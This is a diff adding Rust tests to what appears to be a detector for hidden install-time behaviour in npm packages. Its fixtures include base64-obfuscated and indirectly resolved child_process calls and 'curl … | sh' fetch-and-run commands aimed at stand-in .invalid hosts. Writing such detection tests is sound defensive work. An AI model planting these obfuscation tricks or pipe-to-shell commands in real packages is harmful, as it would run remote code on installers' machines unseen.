@@ -70,6 +70,82 @@ fn a_hidden_text_that_is_not_read_is_not_called_harmless() {
 }
 
 #[test]
+fn a_file_of_code_that_is_run_as_it_stands_is_told_to_be_in_plain_sight() {
+    // Whether something is run as hidden or seen, and whether it is in plain sight.
+    let ran = |decode: &str, held: &str| {
+        let code = format!(
+            "const fs = require('fs');\neval({decode}(fs.readFileSync(__dirname + '/b.js', 'utf8')));\n"
+        );
+        let found = with_module(&code, held);
+        let has = |mark: Mark| found.flows.iter().any(|flow| flow.marks.contains(&mark));
+        (has(Mark::HiddenEffect), has(Mark::InPlainSight))
+    };
+    let text = "require('child_process').execSync('make --version');\n";
+    assert_eq!(ran("", text), (true, true));
+    // One edge changed: the file holds the same text in another form.
+    let hidden = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdtYWtlIC0tdmVyc2lvbicpOwo=";
+    assert_eq!(ran("atob", hidden), (true, false));
+}
+
+/// What an installation runs of a script that imports a module.
+fn with_module(code: &str, module: &str) -> Found {
+    let manifest = r#"{"name": "a", "scripts": {"install": "node a.js"}}"#;
+    let entries = vec![
+        file("package.json", manifest),
+        file("a.js", code),
+        file("b.js", module),
+    ];
+    analyse(&Package::new(&Tree {
+        entries,
+        ..Tree::default()
+    }))
+}
+
+fn starts_what_it_fetches(found: &Found) -> bool {
+    found
+        .flows
+        .iter()
+        .any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
+}
+
+#[test]
+fn an_encoded_path_of_a_program_of_the_package_hides_no_effect() {
+    let hides = |command: &str| {
+        let code = format!("require('child_process').execFileSync({command}, ['--version']);\n");
+        let found = with_module(&code, "");
+        let mut flows = found.flows.iter();
+        flows.any(|flow| flow.marks.contains(&Mark::HiddenEffect))
+    };
+    assert!(!hides("__dirname + atob('L3Rvb2w=')"));
+    // One edge changed: what is encoded fetches and runs.
+    let hidden = "atob('c2g='), ['-c', atob('Y3VybCAtcyBodHRwczovL2EuaW52YWxpZC9hIHwgc2g=')]";
+    assert!(hides(hidden));
+}
+
+#[test]
+fn a_list_of_another_module_is_read_as_its_importer_leaves_it() {
+    let module = "const t = ['exec', 'curl -s https://turn.invalid/a | sh', 'child_process'];\n\
+                  module.exports = { t };\n";
+    let turned = "const { t } = require('./b');\n\
+                  t.push(t.shift());\n\
+                  require(t[1])[t[2]](t[0]);\n";
+    assert!(starts_what_it_fetches(&with_module(turned, module)));
+    // One edge changed: nobody turns it.
+    let idle = "const { t } = require('./b');\nrequire(t[1])[t[2]](t[0]);\n";
+    assert!(!starts_what_it_fetches(&with_module(idle, module)));
+}
+
+#[test]
+fn a_name_of_a_method_may_stand_in_another_module() {
+    let module = "exports.a = 'child_process';\nexports.b = 'execSync';\n";
+    let code = "const w = require('./b');\n\
+                require(w.a)[w.b]('curl -s https://word.invalid/a | sh');\n";
+    assert!(starts_what_it_fetches(&with_module(code, module)));
+    let other = "exports.a = 'child_process';\nexports.b = 'toString';\n";
+    assert!(!starts_what_it_fetches(&with_module(code, other)));
+}
+
+#[test]
 fn a_text_that_is_too_long_is_said_to_be_unread() {
     let long = |bytes: usize| format!("eval(\"{}\")", "a();".repeat(bytes / 4 + 1));
     let read = installed("node", "a.js", &long(evaluating::TEXT / 64));
